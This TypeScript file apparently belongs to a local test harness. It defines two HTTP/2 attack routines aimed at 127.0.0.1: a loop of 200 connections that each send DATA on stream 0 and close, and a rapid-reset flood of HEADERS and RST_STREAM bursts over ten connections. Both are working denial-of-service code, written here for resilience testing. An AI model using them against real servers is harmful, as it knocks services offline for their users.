import { connect as connectTls, type TLSSocket } from 'node:tls';
import {
  emptySettings,
  frame,
  frameTypes,
  headersFrame,
  preface,
  settingsAck,
  u32,
} from '../../helper/http2-frames.js';
import type { Row } from '../row.js';
import { writeAll } from './connections.js';
import { pause } from './pause.js';

const request = { ':method': 'PUT', ':scheme': 'https', ':path': '/h', ':authority': 'localhost' };

function openHttp2(port: number): Promise<TLSSocket> {
  return new Promise((resolve) => {
    const socket = connectTls({
      port,
      host: '127.0.0.1',
      rejectUnauthorized: false,
      ALPNProtocols: ['h2'],
      servername: 'localhost',
    });
    socket.on('error', () => resolve(socket));
    socket.once('secureConnect', () => resolve(socket));
  });
}

export const http2ConnectionError: Row = {
  id: '2',
  title: 'HTTP/2 connection error, then FIN',
  what:
    '200 connections, one after another: a request, DATA on stream 0 (which is a connection error), FIN. On Node 20 such ' +
    'sessions stayed for minutes. Look at the descriptors.',
  way: 'socks',
  async attack({ ports }) {
    const error = frame(frameTypes.data, 0, 0, Buffer.alloc(5));
    const bytes = Buffer.concat([preface, emptySettings, headersFrame(1, request), error]);
    for (let index = 0; index < 200; index += 1) {
      const socket = await openHttp2(ports.h2);
      socket.write(bytes);
      await pause(5);
      socket.end();
      await pause(3);
      socket.destroy();
    }
    return '200 connections';
  },
};

const rapidResetMs = 4_000;

async function resetRapidly(port: number, until: number): Promise<number> {
  let resets = 0;
  while (Date.now() < until) {
    const socket = await openHttp2(port);
    socket.resume();
    await writeAll(socket, Buffer.concat([preface, emptySettings]));
    await pause(50);
    await writeAll(socket, settingsAck);
    for (let stream = 1; Date.now() < until && !socket.destroyed; ) {
      const burst: Buffer[] = [];
      for (let count = 0; count < 100; count += 1, stream += 2) {
        burst.push(headersFrame(stream, request), frame(frameTypes.reset, 0, stream, u32(8)));
      }
      resets += 100;
      await writeAll(socket, Buffer.concat(burst));
      await pause(0);
    }
    socket.destroy();
    await pause(5);
  }
  return resets;
}

export const rapidReset: Row = {
  id: '8',
  title: 'HTTP/2 rapid reset',
  what: 'Ten connections open streams and reset each at once, as fast as they are let, for four seconds; who is cut off comes again.',
  way: 'socks',
  async attack({ ports }) {
    const until = Date.now() + rapidResetMs;
    const resets = await Promise.all(Array.from({ length: 10 }, () => resetRapidly(ports.h2, until)));
    return `${resets.reduce((sum, each) => sum + each, 0)} resets sent`;
  },
};
